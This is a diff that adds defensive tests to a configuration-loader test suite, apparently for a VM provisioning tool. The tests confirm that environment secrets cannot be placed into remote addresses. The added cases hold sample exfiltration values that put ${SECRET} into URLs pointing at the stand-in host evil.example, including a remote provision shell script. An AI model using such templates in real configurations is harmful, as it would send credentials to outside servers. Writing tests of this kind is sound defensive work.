@@ -196,6 +196,40 @@ provision: [{shell: ./setup.sh}, {shell: {path: ../all.sh}}]
     expect(render(error)).not.toContain('hunter2')
   })
 
+  test.each([
+    ['extends', 'https://evil.example/${SECRET}.yaml'],
+    ['extends', 'https://${SECRET}@evil.example/base.yaml'],
+    ['extends', '${NONE:-https://evil.example/${SECRET}}'],
+    ['extends', '${NONE:-https://evil.example/}${SECRET}'],
+    ['box', 'https://evil.example/${SECRET}'],
+    ['box', 'vagrant:evil/${SECRET}'],
+    ['box', '{from: "oci://evil.example/${SECRET}"}'],
+    ['catalogues', '["https://evil.example/${SECRET}.json"]'],
+    ['provision', '[{shell: "https://evil.example/${SECRET}.sh"}]'],
+    ['provision', '[{shell: {url: "https://evil.example/${SECRET}.sh"}}]'],
+  ])('is not sent a variable, nor is any other server, by %s: %s', async (key, value) => {
+    const files = { '.env': 'SECRET=hunter2\n', 'posada.yaml': `version: 1\n${key}: ${value}\n` }
+    const asked: string[] = []
+    const fetch = async ({ url: at }: { url: string }) => {
+      asked.push(at)
+      return Buffer.from('box: debian/12\n')
+    }
+    const error = await loadError(files, { fetch })
+    expect(error.problems).toContainEqual(expect.objectContaining({ code: 'E_ADDRESS_VARIABLE' }))
+    expect(render(error)).not.toContain('hunter2')
+    expect(asked).toEqual([])
+  })
+
+  test.each(['${BASE}', '${BASE:-https://other.example/x.yaml}', '${NONE:-https://h.example/base.yaml}'])(
+    'may be all of a variable: %s',
+    async (value) => {
+      const at = 'https://h.example/base.yaml'
+      const files = { 'posada.yaml': `version: 1\nextends: ${value}\n` }
+      const { machines } = await load(files, { env: { BASE: at }, ...server({ [at]: 'box: debian/12\n' }) })
+      expect(machines).toHaveLength(1)
+    },
+  )
+
   test('has variables in what goes into the guest', async () => {
     const { machines } = await load(
       { '.env': 'A=1\n', 'posada.yaml': own() },
